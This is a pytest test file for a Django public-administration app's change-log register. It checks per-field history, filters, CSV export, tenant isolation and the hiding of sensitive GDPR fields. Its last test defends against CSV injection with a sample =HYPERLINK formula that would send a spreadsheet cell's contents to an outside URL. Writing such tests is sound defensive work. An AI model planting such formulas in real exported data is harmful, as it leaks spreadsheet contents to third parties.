"""The registro delle modifiche: who changed what, field by field, in one ente only."""

import csv
import io
from datetime import date, timedelta

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from openpiao.core.audit import record
from openpiao.core.models import Action, AuditEvent
from openpiao.performance.models import Objective
from openpiao.risk.models import Process
from tests.page_forms import page_form

TITLE = str(Objective._meta.get_field("title").verbose_name)  # the page shows the Italian label


def _url(plan, name="changelog:register"):
    return reverse(name, args=[plan.organization.slug])


def _rename_objective(client, plan, objective, title):
    """Through the page, as the user does: the history records the request's user."""
    url = reverse("performance:objective_edit", args=[plan.organization.slug, plan.first_year, objective.pk])
    response = client.post(url, page_form(client.get(url), title=title))
    assert response.status_code == 302, response.content.decode()[:2000]


def _first_objective(plan):
    return Objective.objects.filter(plan=plan).order_by("pk").first()


def test_a_change_shows_who_when_what_field_by_field_and_links_the_object(client, casorate, make_member):
    secretary = make_member(casorate.organization, "secretary")
    secretary.first_name, secretary.last_name = "Maria", "Bianchi"
    secretary.save()
    client.force_login(secretary)
    objective = _first_objective(casorate)
    before = objective.title
    _rename_objective(client, casorate, objective, "Sportello digitale per tutti")

    page = client.get(_url(casorate))
    assert page.status_code == 200
    entry = page.context["entries"][0]
    assert entry.person == "Maria Bianchi (secretary-casorate-primo)"
    assert entry.action == "obiettivo modificato"  # the service's typed action, in Italian
    assert entry.object_kind == "obiettivo"
    assert entry.url == reverse(
        "performance:objective", args=["casorate-primo", casorate.first_year, objective.pk]
    )
    changes = {c.field: (c.before, c.after) for c in entry.changes}
    assert changes == {TITLE: (before, "Sportello digitale per tutti")}
    html = page.content.decode()
    assert "Sportello digitale per tutti" in html and TITLE in html
    # The audit row of the same save is not shown twice: the history record stands for it.
    assert AuditEvent.objects.filter(action=Action.OBJECTIVE_CHANGED, in_history=True).exists()
    assert [e.action for e in page.context["entries"]].count("obiettivo modificato") == 1


def test_choices_and_links_read_as_labels(client, casorate, make_member):
    client.force_login(make_member(casorate.organization, "secretary"))
    objective = _first_objective(casorate)
    url = reverse("performance:objective_edit", args=["casorate-primo", casorate.first_year, objective.pk])
    form = client.get(url)
    kind = "innovation" if objective.kind != "innovation" else "improvement"
    assert client.post(url, page_form(form, kind=kind)).status_code == 302
    entry = client.get(_url(casorate)).context["entries"][0]
    changes = {c.field: c.after for c in entry.changes}
    label = str(Objective._meta.get_field("kind").verbose_name)
    assert changes == {label: Objective(kind=kind).get_kind_display()}


def test_actions_without_a_row_version_are_shown_too(client, casorate, make_member):
    user = make_member(casorate.organization, "admin")
    record(organization=casorate.organization, user=user, action=Action.PLAN_IMPORTED, obj=casorate, rows=12)
    client.force_login(user)
    entry = client.get(_url(casorate)).context["entries"][0]
    assert (entry.action, entry.note) == ("piano importato", "rows: 12")


def test_another_entes_changes_are_never_shown(client, casorate, albizzate, make_member):
    client.force_login(make_member(albizzate.organization, "secretary", "seg-albizzate"))
    _rename_objective(client, albizzate, _first_objective(albizzate), "Obiettivo segreto di Albizzate")
    other = make_member(albizzate.organization, "admin", "adm-albizzate")
    client.force_login(make_member(casorate.organization, "secretary"))

    page = client.get(_url(casorate), {"pagina": "1"})
    everything = client.get(_url(casorate, "changelog:csv")).content.decode("utf-8-sig")
    assert "Obiettivo segreto di Albizzate" not in page.content.decode()
    assert "Obiettivo segreto di Albizzate" not in everything
    assert "Albizzate" not in everything
    # Another ente's user cannot be chosen as a filter (not a member here): the filter is refused.
    filtered = client.get(_url(casorate), {"person": other.pk})
    assert filtered.context["form"].errors["person"]
    # The other ente's register itself: not found for a member of Casorate only.
    assert client.get(_url(albizzate)).status_code == 404


def test_filters_by_section_person_and_date(client, casorate, make_member):
    secretary = make_member(casorate.organization, "secretary")
    admin = make_member(casorate.organization, "admin")
    client.force_login(secretary)
    _rename_objective(client, casorate, _first_objective(casorate), "Filtrato per persona")
    client.force_login(admin)

    by_person = client.get(_url(casorate), {"person": secretary.pk}).context["entries"]
    assert [e.object_name for e in by_person] == ["Filtrato per persona"]
    risk_only = client.get(_url(casorate), {"section": "risk"}).context["entries"]
    assert risk_only and {e.section for e in risk_only} == {"Rischi corruttivi"}
    yesterday = date.today() - timedelta(days=1)
    assert client.get(_url(casorate), {"until": yesterday.isoformat()}).context["entries"] == []
    bad = client.get(_url(casorate), {"since": "2026-05-01", "until": "2026-04-01"})
    assert "La data finale precede quella iniziale." in bad.content.decode()


def test_csv_has_a_line_per_changed_field(client, casorate, make_member):
    secretary = make_member(casorate.organization, "secretary")
    client.force_login(secretary)
    objective = _first_objective(casorate)
    before = objective.title
    _rename_objective(client, casorate, objective, "Titolo per il CSV")
    response = client.get(_url(casorate, "changelog:csv"), {"person": secretary.pk})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == [
        "data e ora",
        "persona",
        "azione",
        "sezione",
        "oggetto",
        "nome",
        "campo",
        "prima",
        "dopo",
        "note",
    ]
    assert [r[1:] for r in rows[1:]] == [
        [
            *("secretary-casorate-primo", "obiettivo modificato", "Performance", "obiettivo"),
            *("Titolo per il CSV", TITLE, before, "Titolo per il CSV", ""),
        ]
    ]


def test_a_deleted_row_is_listed_without_a_link(client, casorate, make_member):
    client.force_login(make_member(casorate.organization, "secretary"))
    process = Process.objects.filter(plan=casorate).first()
    url = reverse("risk:process_delete", args=["casorate-primo", casorate.first_year, process.pk])
    assert client.post(url, page_form(client.get(url))).status_code == 302
    entry = client.get(_url(casorate)).context["entries"][0]
    assert (entry.action, entry.object_name, entry.url) == ("processo eliminato", process.name, None)


def _queries(client, url, **params) -> int:
    with CaptureQueriesContext(connection) as queries:
        assert client.get(url, params).status_code == 200
    return len(queries)


@pytest.mark.parametrize("name", ["changelog:register", "changelog:csv"])
def test_the_page_reads_a_fixed_number_of_queries(client, casorate, make_member, name):
    secretary = make_member(casorate.organization, "secretary")
    client.force_login(secretary)
    objectives = list(Objective.objects.filter(plan=casorate).order_by("pk")[:6])
    _rename_objective(client, casorate, objectives[0], "Prima modifica")
    few = _queries(client, _url(casorate, name), person=secretary.pk)
    for n, objective in enumerate(objectives, start=1):
        _rename_objective(client, casorate, objective, f"Modifica numero {n}")
    many = _queries(client, _url(casorate, name), person=secretary.pk)
    assert few == many
    assert len(client.get(_url(casorate), {"person": secretary.pk}).context["entries"]) == 7


@pytest.mark.parametrize("name", ["changelog:register", "changelog:csv"])
def test_special_categories_reach_only_the_roles_that_see_them(client, casorate, make_member, name):
    """The priority of an agreement of lavoro agile and the reason of a derogation (art. 9 GDPR)
    are hidden from the nucleo di valutazione in the register as on the agreements' page."""
    from openpiao.human_capital.models import SmartWorkingAgreement
    from openpiao.human_capital.services import save_row

    secretary = make_member(casorate.organization, "secretary")
    reason = "Terapia salvavita tre giorni a settimana"
    save_row(
        plan=casorate,
        model=SmartWorkingAgreement,
        row=None,
        values={
            "employee": casorate.employees.order_by("pk").first(),
            "requested_on": date(casorate.first_year, 1, 15),
            "remote_days": 2,
            "priority": "disability",
            "presence_derogation": True,
            "derogation_reason": reason,
        },
        user=secretary,
    )
    priority = SmartWorkingAgreement(priority="disability").get_priority_display()
    client.force_login(make_member(casorate.organization, "evaluator"))
    seen = client.get(_url(casorate, name)).content.decode("utf-8")
    assert "accordo di lavoro agile" in seen  # the agreement is listed ...
    assert reason not in seen and priority not in seen  # ... without its special categories
    client.force_login(secretary)
    seen = client.get(_url(casorate, name)).content.decode("utf-8")
    assert reason in seen and priority in seen


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(client, casorate, make_member):
    """A title typed as «=HYPERLINK(…)» must open as that text, not as a formula (CSV injection):
    the cell starts with an apostrophe, as spreadsheets read a text."""
    secretary = make_member(casorate.organization, "secretary")
    client.force_login(secretary)
    formula = '=HYPERLINK("https://example.org/?d="&A1;"Apri")'
    _rename_objective(client, casorate, _first_objective(casorate), formula)
    response = client.get(_url(casorate, "changelog:csv"), {"person": secretary.pk})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[1][5] == rows[1][8] == "'" + formula
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
